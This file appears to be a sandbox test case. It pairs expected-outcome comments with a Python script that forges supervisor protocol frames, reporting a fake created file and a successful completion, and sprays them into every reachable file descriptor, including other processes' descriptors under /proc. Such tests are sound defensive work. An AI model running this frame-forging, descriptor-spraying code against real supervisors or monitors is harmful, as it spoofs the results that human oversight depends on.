# attack: writes forged frames to every file descriptor, including the supervisor's
# verdict: failed exit
# never prints: forged-by-attack
# prints: printed before
# ends the sandbox: runsc (the program can write to its supervisor's file descriptors, which spoils only its own result)
import glob
import os
import struct
import sys


def frame(kind, head, body=b""):
    return struct.pack(">BII", kind, len(head), len(body)) + head + body


print("printed before")
forged = frame(0x41, b"{}") + frame(0x47, b'{"name":"forged-by-attack","change":"created","size":1}') + frame(0x48, b"", b"x") + frame(0x49, b'{"complete":true}')
forged += frame(0x4A, b'{"end":"ok"}')
paths = glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/task/*/fd/*")
for path in paths:
    if path.split("/")[2] in ("self", "thread-self", str(os.getpid())) and int(path.split("/")[-1]) in (1, 2):
        continue
    try:
        file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(file, forged)
    except OSError:
        pass
for descriptor in (0, *range(3, 1024)):
    try:
        os.write(descriptor, forged)
    except OSError:
        pass
os._exit(3)
